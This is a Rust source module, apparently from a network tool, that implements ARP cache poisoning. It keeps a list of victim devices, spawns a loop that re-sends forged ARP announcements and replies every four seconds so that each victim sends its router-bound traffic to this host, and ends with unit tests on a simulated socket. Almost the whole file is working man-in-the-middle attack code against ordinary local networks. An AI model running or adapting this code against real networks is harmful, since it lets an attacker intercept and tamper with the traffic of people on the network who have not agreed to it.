//! ARP cache poisoning
//!
//! One spoof task per hunted MAC. Each wake re-arps the victim so its cache
//! keeps pointing the router's IP at this host; the victim refreshes its
//! cache every few minutes, so the attack replays until stopped.

use super::engine::ArpEngine;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::time::sleep;
use tracing::{info, warn};
use weir_core::{Addr, Error, HuntStage, Result};

/// Delay between re-arp rounds. Shorter intervals showed no gain beyond a
/// chattier network.
const SPOOF_PERIOD: Duration = Duration::from_secs(4);

/// Delay between the paired unsolicited replies.
const REPLY_GAP: Duration = Duration::from_millis(10);

impl ArpEngine {
    /// Start spoofing a victim. Adds it to the hunt list, claims its IP in
    /// the virtual table and spawns the spoof task. Idempotent per MAC.
    pub fn start_hunt(self: &Arc<Self>, addr: Addr) -> Result<HuntStage> {
        let ip = match addr.ipv4() {
            Some(ip) if !ip.is_unspecified() && !addr.mac.is_zero() => ip,
            _ => {
                warn!(addr = %addr, "arp invalid hunt target");
                return Err(Error::InvalidIp(format!("{}", addr.ip)));
            }
        };

        if self.hunt_list.insert(addr.mac, addr).is_some() {
            // already hunting this MAC
            return Ok(HuntStage::Hunt);
        }
        self.claim(ip);

        if let Some(host) = self.session().find_ip(addr.ip) {
            host.row_mut().arp_stage = HuntStage::Hunt;
        }

        let engine = Arc::clone(self);
        tokio::spawn(async move { engine.spoof_loop(ip).await });
        Ok(HuntStage::Hunt)
    }

    /// Stop spoofing a victim. The spoof task observes the removal at its
    /// next wake and exits; no further poison packets are sent after one
    /// spoof period.
    pub fn stop_hunt(&self, addr: Addr) -> Result<HuntStage> {
        let removed = self.hunt_list.remove(&addr.mac);
        if removed.is_none() {
            warn!(addr = %addr, "arp stop hunt for target not in hunt stage");
        }
        if let Some(ip) = addr.ipv4() {
            self.unclaim(ip);
        }
        if let Some(host) = self.session().find_ip(addr.ip) {
            host.row_mut().arp_stage = HuntStage::Normal;
        }
        Ok(HuntStage::Normal)
    }

    fn find_hunt_by_ip(&self, ip: Ipv4Addr) -> Option<Addr> {
        self.hunt_list
            .iter()
            .find(|entry| entry.value().ipv4() == Some(ip))
            .map(|entry| *entry.value())
    }

    async fn spoof_loop(self: Arc<Self>, ip: Ipv4Addr) {
        let mut shutdown = self.shutdown.subscribe();
        let start = Instant::now();
        let mut rounds = 0u32;
        info!(ip = %ip, "arp attack start");

        loop {
            let addr = match self.find_hunt_by_ip(ip) {
                Some(addr) => addr,
                None => break,
            };

            // re-arp the victim so router traffic comes to us
            if let Err(err) = self.force_spoof(addr).await {
                warn!(addr = %addr, error = %err, "arp spoof write failed");
            }

            if rounds % 16 == 0 {
                info!(addr = %addr, rounds, elapsed = ?start.elapsed(), "arp attack");
            }
            rounds += 1;

            tokio::select! {
                _ = shutdown.recv() => break,
                _ = sleep(SPOOF_PERIOD) => {}
            }
        }

        info!(ip = %ip, rounds, elapsed = ?start.elapsed(), "arp attack end");
    }

    /// One poison round: announce the router's IP as owned by this host's
    /// MAC straight at the victim, then two unsolicited unicast replies.
    async fn force_spoof(&self, addr: Addr) -> Result<()> {
        let nic = self.session().nic();
        let victim_ip = addr
            .ipv4()
            .ok_or_else(|| Error::InvalidIp4(format!("{}", addr.ip)))?;

        self.announce(addr.mac, nic.host_mac, nic.router_addr4(), 1)?;

        for _ in 0..2 {
            self.reply(
                addr.mac,
                nic.host_mac,
                nic.router_addr4(),
                addr.mac,
                victim_ip,
            )?;
            sleep(REPLY_GAP).await;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arp::engine::ArpConfig;
    use std::net::IpAddr;
    use std::sync::Arc;
    use tokio::sync::broadcast;
    use weir_core::{MacAddr, MemSocket, NicInfo};
    use weir_session::Session;

    const MAC2: MacAddr = MacAddr([0x00, 0x02, 0x03, 0x04, 0x05, 0x02]);

    fn engine() -> (Arc<ArpEngine>, Arc<MemSocket>) {
        let nic = NicInfo::new(
            MacAddr([0xaa, 0, 0, 0, 0, 1]),
            "192.168.0.129/24".parse().unwrap(),
            MacAddr([0xaa, 0, 0, 0, 0, 2]),
            "192.168.0.11/24".parse().unwrap(),
        )
        .unwrap();
        let sock = MemSocket::new();
        let (session, _rx) = Session::new(nic, sock.clone());
        let (shutdown, _) = broadcast::channel(1);
        (ArpEngine::new(session, ArpConfig::default(), shutdown), sock)
    }

    #[tokio::test]
    async fn test_start_hunt_rejects_bad_addr() {
        let (engine, _sock) = engine();
        let bad = Addr::new(MAC2, IpAddr::V4(Ipv4Addr::UNSPECIFIED));
        assert!(engine.start_hunt(bad).is_err());
        assert!(!engine.is_hunting(MAC2));
    }

    #[tokio::test(start_paused = true)]
    async fn test_spoof_loop_sends_and_stops() {
        let (engine, sock) = engine();
        let victim = Addr::new(MAC2, IpAddr::V4(Ipv4Addr::new(192, 168, 0, 2)));

        let stage = engine.start_hunt(victim).unwrap();
        assert_eq!(stage, HuntStage::Hunt);
        assert!(engine.is_hunting(MAC2));
        assert_eq!(engine.virtual_count(), 1);

        // let the first round run
        tokio::time::sleep(Duration::from_millis(100)).await;
        let sent = sock.take_sent();
        // one announcement + two replies
        assert_eq!(sent.len(), 3);
        for frame in &sent {
            assert_eq!(&frame[0..6], MAC2.as_bytes()); // unicast to victim
        }

        engine.stop_hunt(victim).unwrap();
        assert!(!engine.is_hunting(MAC2));
        assert_eq!(engine.virtual_count(), 0);

        // after one period the loop has observed the removal; no new frames
        tokio::time::sleep(SPOOF_PERIOD * 3).await;
        sock.take_sent();
        tokio::time::sleep(SPOOF_PERIOD * 2).await;
        assert_eq!(sock.sent_count(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_close_signal_ends_loop() {
        let (engine, sock) = engine();
        let victim = Addr::new(MAC2, IpAddr::V4(Ipv4Addr::new(192, 168, 0, 2)));
        engine.start_hunt(victim).unwrap();
        tokio::time::sleep(Duration::from_millis(100)).await;
        sock.take_sent();

        let _ = engine.shutdown.send(());
        tokio::time::sleep(SPOOF_PERIOD * 2).await;
        sock.take_sent();
        tokio::time::sleep(SPOOF_PERIOD * 2).await;
        assert_eq!(sock.sent_count(), 0);
    }
}
